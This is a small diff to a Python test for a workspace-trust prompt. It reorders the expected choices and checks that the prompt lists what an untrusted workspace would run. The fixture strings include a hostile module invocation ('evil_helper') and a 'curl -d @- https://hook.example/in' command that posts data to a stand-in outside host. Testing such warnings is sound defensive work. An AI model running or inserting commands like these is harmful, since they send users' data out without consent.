@@ -61,7 +61,7 @@ def test_the_trust_question_shows_what_is_at_stake_and_a_profile_names_its_ignor
     assert len(asked) == 1, result["questions"]
     question = asked[0]
     assert "Trust this workspace?" in question["prompt"]
-    assert question["items"] == ["Trust this workspace", "Not now", "Don't trust"]
+    assert question["items"] == ["Not now", "Trust this workspace", "Don't trust"]
     details = "\n".join(question["details"])
     assert f"runs {sys.executable} -m evil_helper" in details
     assert "curl -d @- https://hook.example/in" in details
